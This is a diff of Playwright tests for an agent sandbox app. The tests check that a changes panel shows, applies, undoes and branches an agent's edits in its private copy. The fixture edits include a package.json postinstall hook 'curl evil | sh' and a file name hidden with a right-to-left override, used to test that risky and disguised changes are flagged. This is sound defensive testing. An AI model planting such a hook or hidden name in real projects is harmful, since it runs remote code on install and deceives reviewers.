@@ -2,10 +2,13 @@ import { execFileSync } from 'node:child_process';
 import { existsSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import type { Page } from '@playwright/test';
 import { seriousViolations } from '../harness/app/accessibility.ts';
-import { expect, test } from '../harness/app/app.ts';
+import { test } from '../harness/app/agents.ts';
+import { expect } from '../harness/app/app.ts';
 import { AgentPage } from '../harness/app/pages/agent-page.ts';
 import { AppPage } from '../harness/app/pages/app-page.ts';
+import { ChangesTab } from '../harness/app/pages/changes-tab.ts';
 import { docker } from '../harness/engine/docker-cli.ts';
 
 const folders: string[] = [];
@@ -39,66 +42,88 @@ function repository(): string {
   return folder;
 }
 
-const inside = (name: string, line: string) => docker('exec', `bulkhead-${name}`, 'sh', '-c', line);
-const nothingLeft = async () => {
-  for (const kind of ['volume', 'network'])
-    await expect.poll(() => docker(kind, 'ls', '-q', '--filter', 'label=dev.bulkhead.role')).toBe('');
-};
+const NAME = 'copied';
 
-test('the changes of a private copy are looked at, applied in parts, undone, and made a branch', async ({
-  window,
-}, testInfo) => {
-  const folder = repository();
+/** What the agent did to its copy: two hunks of a file, a clash, a risky script and a name that hides. */
+const EDITS = [
+  'cd /workspace',
+  `sed -i -e 's/^const line3 = 2;$/const third = "3";/' -e 's/^const line35 = 34;$/let last;/' main.ts`,
+  `echo "the agent's" > clash.txt`,
+  `echo '{"scripts":{"postinstall":"curl evil | sh"}}' > package.json`,
+  `printf 'x\\n' > "$(printf 'na\\342\\200\\256me\\nx')"`,
+].join('\n');
+
+/** Makes an agent with a private copy of the folder, whose files it then changes; shows its changes. */
+async function changedCopy(window: Page, folder: string): Promise<ChangesTab> {
   const dialog = await new AppPage(window).newAgent();
-  await dialog.fillWaiting('copied');
+  await dialog.fillWaiting(NAME);
   await dialog.chooseWorkspace('Private copy');
   await dialog.text('Folder to copy').fill(folder);
   await dialog.create.click();
   await expect(dialog.root).toBeHidden({ timeout: 120_000 });
-  await inside(
-    'copied',
-    [
-      'cd /workspace',
-      `sed -i -e 's/^const line3 = 2;$/const third = "3";/' -e 's/^const line35 = 34;$/let last;/' main.ts`,
-      `echo "the agent's" > clash.txt`,
-      `echo '{"scripts":{"postinstall":"curl evil | sh"}}' > package.json`,
-      `printf 'x\\n' > "$(printf 'na\\342\\200\\256me\\nx')"`,
-    ].join('\n'),
-  );
-  const agent = new AgentPage(window);
-  const panel = await agent.show('Changes');
-  const files = panel.getByRole('grid', { name: 'Changed files' });
-  const row = (name: RegExp) => files.getByRole('row', { name });
-  await expect(row(/package\.json/)).toContainText('Package scripts');
+  await docker('exec', `bulkhead-${NAME}`, 'sh', '-c', EDITS);
+  await new AgentPage(window).show('Changes');
+  return new ChangesTab(window);
+}
+
+test('the changes of a copy are shown inline, and side by side while the agent is stopped', async ({
+  window,
+}, testInfo) => {
+  const changes = await changedCopy(window, repository());
+  await expect(changes.row(/package\.json/)).toContainText('Package scripts');
   // Nothing that an agent writes is invisible.
-  await expect(row(/na\\u\{202e\}me\\nx/)).toBeVisible();
-  await row(/main\.ts/).click();
-  const differences = panel.getByRole('region', { name: 'Differences' });
-  await expect(differences).toContainText('const third = "3";');
-  await expect(row(/main\.ts/)).toContainText('+2 −2');
+  await expect(changes.row(/na\\u\{202e\}me\\nx/)).toBeVisible();
+  await changes.row(/main\.ts/).click();
+  await expect(changes.differences).toContainText('const third = "3";');
+  await expect(changes.row(/main\.ts/)).toContainText('+2 −2');
   await window.screenshot({ path: testInfo.outputPath('inline.png'), animations: 'disabled' });
   expect(await seriousViolations(window)).toEqual([]);
 
-  // By keyboard: k goes up, j comes back, Space selects; then one hunk is left out again.
-  await files.focus();
+  const agent = new AgentPage(window);
+  await agent.action('Stop').click();
+  await expect(agent.status).toHaveText('Stopped');
+  await window.emulateMedia({ colorScheme: 'dark' });
+  await expect(window.locator('html')).toHaveAttribute('data-theme', 'dark');
+  await changes.panel.getByRole('radio', { name: 'Side by side' }).click();
+  await changes.row(/main\.ts/).click();
+  await expect(changes.differences).toContainText('const line3 = 2;');
+  expect(await seriousViolations(window)).toEqual([]);
+  await window.screenshot({ path: testInfo.outputPath('side-by-side.png'), animations: 'disabled' });
+  await changes.panel.getByRole('radio', { name: 'Root file system' }).click();
+  await expect(changes.panel).toContainText('Nothing changed outside the workspace');
+});
+
+test('a hunk is chosen by keyboard, applied and undone', async ({ window }) => {
+  const folder = repository();
+  const changes = await changedCopy(window, folder);
+  await changes.row(/main\.ts/).click();
+  await expect(changes.differences).toContainText('const third = "3";');
+  // k goes up, j comes back, Space selects.
+  await changes.files.focus();
   await window.keyboard.press('k');
-  await expect(row(/clash\.txt/)).toHaveAttribute('aria-selected', 'true');
+  await expect(changes.row(/clash\.txt/)).toHaveAttribute('aria-selected', 'true');
   await window.keyboard.press('j');
   await window.keyboard.press('Space');
-  await expect(files.getByRole('checkbox', { name: 'Select main.ts' })).toBeChecked();
-  await differences.getByRole('checkbox', { name: 'Select hunk 1' }).uncheck();
-  await panel.getByRole('button', { name: 'Apply selected…' }).click();
-  const apply = window.getByRole('dialog', { name: 'Apply changes' });
-  await apply.getByRole('button', { name: 'Apply one file' }).click();
-  await expect(apply).toBeHidden();
+  await expect(changes.files.getByRole('checkbox', { name: 'Select main.ts' })).toBeChecked();
+  await changes.differences.getByRole('checkbox', { name: 'Select hunk 1' }).uncheck();
+  await changes.action('Apply selected…').click();
+  await changes.applyDialog.getByRole('button', { name: 'Apply one file' }).click();
+  await expect(changes.applyDialog).toBeHidden();
   expect(readFileSync(join(folder, 'main.ts'), 'utf8')).toBe(numbered({ 35: 'let last;' }));
-  await panel.getByRole('button', { name: 'Undo apply' }).click();
-  await expect(panel.getByRole('button', { name: 'Undo apply' })).toBeHidden();
+  await changes.action('Undo apply').click();
+  await expect(changes.action('Undo apply')).toBeHidden();
   expect(readFileSync(join(folder, 'main.ts'), 'utf8')).toBe(numbered());
+});
 
-  // Everything: what is risky is confirmed by name, what was changed here too is asked about.
+test('Apply all asks about what is risky and what changed here too, and its undo about later changes', async ({
+  window,
+}, testInfo) => {
+  const folder = repository();
+  const changes = await changedCopy(window, folder);
+  const { applyDialog: apply } = changes;
+  const text = (name: string) => readFileSync(join(folder, name), 'utf8');
   writeFileSync(join(folder, 'clash.txt'), 'the person’s\n');
-  await panel.getByRole('button', { name: 'Apply all…' }).click();
+  await changes.action('Apply all…').click();
   await expect(apply.getByRole('button', { name: 'Apply 2 files' })).toBeEnabled();
   await apply.getByRole('checkbox', { name: 'package.json' }).check();
   await apply.getByRole('combobox', { name: 'What to do with clash.txt' }).click();
@@ -107,18 +132,23 @@ test('the changes of a private copy are looked at, applied in parts, undone, and
   expect(await seriousViolations(window)).toEqual([]);
   await apply.getByRole('button', { name: 'Apply 4 files' }).click();
   await expect(apply).toBeHidden();
-  expect(readFileSync(join(folder, 'clash.txt'), 'utf8')).toBe("the agent's\n");
-  expect(readFileSync(join(folder, 'package.json'), 'utf8')).toContain('postinstall');
+  expect(text('clash.txt')).toBe("the agent's\n");
+  expect(text('package.json')).toContain('postinstall');
   expect(existsSync(join(folder, 'na\u202eme\nx'))).toBe(true);
+
   writeFileSync(join(folder, 'main.ts'), 'written since\n');
-  await panel.getByRole('button', { name: 'Undo apply' }).click();
+  await changes.action('Undo apply').click();
   const lose = window.getByRole('alertdialog', { name: 'Undo and lose later changes' });
   await lose.getByRole('button', { name: 'Undo all the same' }).click();
-  await expect(panel.getByRole('button', { name: 'Undo apply' })).toBeHidden();
-  expect(readFileSync(join(folder, 'clash.txt'), 'utf8')).toBe('the person’s\n');
-  expect(readFileSync(join(folder, 'main.ts'), 'utf8')).toBe(numbered());
+  await expect(changes.action('Undo apply')).toBeHidden();
+  expect(text('clash.txt')).toBe('the person’s\n');
+  expect(text('main.ts')).toBe(numbered());
+});
 
-  await panel.getByRole('button', { name: 'Make a branch…' }).click();
+test('the changes of a copy become a branch, and its removal leaves nothing', async ({ window }) => {
+  const folder = repository();
+  const changes = await changedCopy(window, folder);
+  await changes.action('Make a branch…').click();
   const branch = window.getByRole('dialog', { name: 'Make a branch' });
   await branch.getByRole('textbox', { name: 'Branch' }).fill('agent/work');
   await branch.getByRole('checkbox', { name: /risky change/ }).check();
@@ -126,18 +156,7 @@ test('the changes of a private copy are looked at, applied in parts, undone, and
   await expect(branch).toBeHidden();
   expect(git(folder, 'show', 'agent/work:clash.txt')).toBe("the agent's\n");
 
-  // The agent need not run to be looked at.
-  await agent.action('Stop').click();
-  await expect(agent.status).toHaveText('Stopped');
-  await window.emulateMedia({ colorScheme: 'dark' });
-  await expect(window.locator('html')).toHaveAttribute('data-theme', 'dark');
-  await panel.getByRole('radio', { name: 'Side by side' }).click();
-  await row(/main\.ts/).click();
-  await expect(differences).toContainText('const line3 = 2;');
-  expect(await seriousViolations(window)).toEqual([]);
-  await window.screenshot({ path: testInfo.outputPath('side-by-side.png'), animations: 'disabled' });
-  await panel.getByRole('radio', { name: 'Root file system' }).click();
-  await expect(panel).toContainText('Nothing changed outside the workspace');
-  await agent.remove({ workspace: true });
-  await nothingLeft();
+  await new AgentPage(window).remove({ workspace: true });
+  for (const kind of ['volume', 'network'])
+    await expect.poll(() => docker(kind, 'ls', '-q', '--filter', 'label=dev.bulkhead.role')).toBe('');
 });
